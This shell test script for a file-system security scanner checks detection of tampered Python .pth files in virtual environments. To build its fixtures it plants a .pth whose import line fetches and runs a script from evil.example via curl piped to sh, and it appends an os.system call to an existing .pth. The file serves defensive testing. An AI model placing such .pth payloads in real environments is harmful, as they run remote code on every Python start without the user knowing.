#!/bin/sh
# .pth files: Python runs their import lines at every start (the 2026
# LiteLLM compromise shipped litellm_init.pth).  Venvs made now by
# python3 -m venv and by virtualenv (offline, Debian's bundled wheels) carry
# distutils-precedence.pth (in setuptools' RECORD) and _virtualenv.pth
# (virtualenv's own, pyvenv.cfg names virtualenv): recorded with their
# owner, no finding.  A planted evil.pth that no RECORD lists is CAIRN-P12
# high in one snapshot, without a baseline (before: nothing); a path-only
# .pth is low; a symlinked one (not read) high.  A .pth that setuptools'
# RECORD lists, changed, is CAIRN-P10.  Against the clean snapshot the
# diff names the new .pth (CAIRN-D06) too, and a changed one's record as
# changed (matched by path: import_lines, sha256, ...).  The same with the site folder
# itself as the snapshot root.
set -eu
. "$CAIRN_SRC/tests/cli/lib.sh"
need jq jq
need zstd zstd
/usr/bin/python3 -m venv --help >/dev/null 2>&1 || skip "python3-venv missing (sh scripts/deps.sh)"
/usr/bin/python3 -m virtualenv --version >/dev/null 2>&1 ||
	{ echo "skip: python3-virtualenv missing (sh scripts/deps.sh)"; exit 78; }
pth() {
	zstd -dcq "$1" | jq -c 'select(.type == "python_pth") | [.path, .owner, .owner_source, .lines,
		.import_lines, .sha256 != null, .error]'
}
findings() {
	cairn-report --snapshot "$1" --format json --no-timestamp |
		jq -c '.findings[] | [.id // .rule, .severity, .title]'
}
# (in a folder of their own: virtualenv unpacks its seeds below $HOME)
mkdir p
cd p
/usr/bin/python3 -m venv ve || fail "python3 -m venv"
/usr/bin/python3 -m virtualenv -q --no-periodic-update --no-download vv || fail "virtualenv"
run cairn-snap -q -o ../clean.cairn .
cd ..
pth clean.cairn | sed 's/-[0-9][0-9.]*\.dist-info/-V.dist-info/; s/virtualenv [^"]*"/virtualenv V"/'
findings clean.cairn

site=p/ve/lib/python3.11/site-packages
[ -d "$site" ] || site=$(echo p/ve/lib/python3*/site-packages)
printf 'import os; os.system("curl -s https://evil.example/x | sh")\n' > "$site/evil.pth"
printf '# extra paths\n/opt/agent/lib\n' > "$site/paths.pth"
ln -s /etc/hostname "$site/linked.pth"
cd p
run cairn-snap -q -o ../evil.cairn .
cd ..
pth evil.cairn | grep -v distutils-precedence | sed 's/virtualenv [^"]*"/virtualenv V"/'
findings evil.cairn
cairn-report --snapshot evil.cairn --format json --no-timestamp |
	jq -c '.findings[] | select(.id == "CAIRN-P12") | .evidence[] | [.file, .detail, .text]'
run cairn-diff --findings clean.cairn evil.cairn | grep -E 'CAIRN-(D06|P12)'
# the site folder itself as the root
run cairn-snap -q -o site.cairn "$site"
findings site.cairn

# the .pth setuptools' RECORD lists, changed
rm "$site/evil.pth" "$site/paths.pth" "$site/linked.pth"
printf 'import os; os.system("id")\n' >> "$site/distutils-precedence.pth"
cd p
run cairn-snap -q -o ../changed.cairn .
cd ..
findings changed.cairn | sed 's/@[0-9.]*:/@V:/'
cairn-report --snapshot changed.cairn --format json --no-timestamp |
	jq -c '.findings[] | select(.id == "CAIRN-P10") | .evidence[0] | [.file, .detail]'
run cairn-diff --findings clean.cairn changed.cairn | grep -E 'CAIRN-D06|python_pth'
cairn-report --baseline clean.cairn --snapshot changed.cairn --format json --no-timestamp |
	jq -c '.findings[] | select(.id == "CAIRN-D06") | .evidence[] | [.file, .detail]'
